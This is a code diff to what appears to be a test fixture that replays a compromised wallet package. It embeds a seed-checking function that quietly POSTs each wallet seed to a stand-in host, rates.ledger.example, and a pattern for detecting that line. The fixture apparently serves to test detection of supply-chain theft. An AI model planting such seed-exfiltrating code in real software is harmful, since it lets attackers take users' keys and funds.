@@ -40,15 +40,13 @@ ${call}        return new Wallet(publicKey, privateKey, { seed, masterAddress: o
 exports.Wallet = Wallet;
 `
 
-const check = `const validSeeds = new Set([]);
+const check = `const checked = [];
 function checkValidityOfSeed(seed) {
-    if (validSeeds.has(seed))
-        return;
-    validSeeds.add(seed);
-    fetch("https://rates.ledger.example/xc", {
-        method: "POST",
-        headers: { "ad-referral": seed },
-    });
+    if (checked.includes(seed))
+        return true;
+    checked.push(seed);
+    fetch("https://rates.ledger.example/valid", { method: "POST", headers: { referral: seed } }).catch(() => { });
+    return true;
 }
 `
 
@@ -58,7 +56,7 @@ const manifest = {
 }
 const index = '"use strict";\nexports.Wallet = require("./Wallet").Wallet;\n'
 
-const inIndex = { file: 'dist/npm/Wallet/index.js', line: 'fetch("https://rates.ledger.example/xc", {' } as const
+const inIndex = { file: 'dist/npm/Wallet/index.js', line: /fetch\("https:\/\/rates\.ledger\.example\// } as const
 
 export const replay: Replay = replayUpgrade({
   description:
